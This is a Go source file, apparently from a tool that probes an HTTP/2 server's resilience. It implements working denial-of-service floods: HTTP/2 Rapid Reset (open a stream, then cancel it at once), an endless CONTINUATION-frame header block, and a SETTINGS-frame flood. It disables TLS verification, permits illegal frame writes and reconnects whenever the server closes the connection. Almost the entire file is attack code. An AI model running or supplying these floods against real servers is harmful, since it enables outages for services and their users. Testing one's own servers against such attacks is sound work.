package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2link is a connection of HTTP/2 on which frames are written without regard for the rules. It is
// opened anew whenever the data plane ends it.
type h2link struct {
	conn   net.Conn
	out    *bufio.Writer // the frames of one abuse go out together
	framer *http2.Framer
	next   uint32 // stream
}

// flood writes frames on the abuser's connection.
func (a *abuser) flood(write func(f *http2.Framer, stream uint32) error) {
	if a.link == nil {
		a.link = &h2link{}
	}
	link := a.link
	if link.conn == nil && link.open(a.secure) != nil {
		return
	}
	link.next += 2
	if err := errors.Join(write(link.framer, link.next), link.out.Flush()); err != nil ||
		link.next > 1<<30 {
		link.conn.Close()
		link.conn = nil
	}
}

func (l *h2link) open(to string) error {
	conn, err := tls.Dial("tcp", to, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return err
	}
	go func() { // ends with the connection
		io.Copy(io.Discard, conn)
		conn.Close()
	}()
	l.conn, l.out, l.next = conn, bufio.NewWriter(conn), 1
	l.framer = http2.NewFramer(l.out, conn)
	l.framer.AllowIllegalWrites = true
	l.out.WriteString(http2.ClientPreface)
	return l.framer.WriteSettings()
}

// block is the header block of a request.
var block = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":path", Value: "/"}, {Name: ":authority", Value: "a"}} {
		enc.WriteField(f)
	}
	return b.Bytes()
})

func (a *abuser) rapidReset(int) {
	a.flood(func(f *http2.Framer, stream uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block(),
			EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// continuation begins one header block and never ends it.
func (a *abuser) continuation(int) {
	a.flood(func(f *http2.Framer, stream uint32) error {
		const first = 3
		if stream == first {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: first, BlockFragment: block()})
		}
		return f.WriteContinuation(first, false, nil)
	})
}

func (a *abuser) settings(int) {
	a.flood(func(f *http2.Framer, _ uint32) error { return f.WriteSettings() })
}
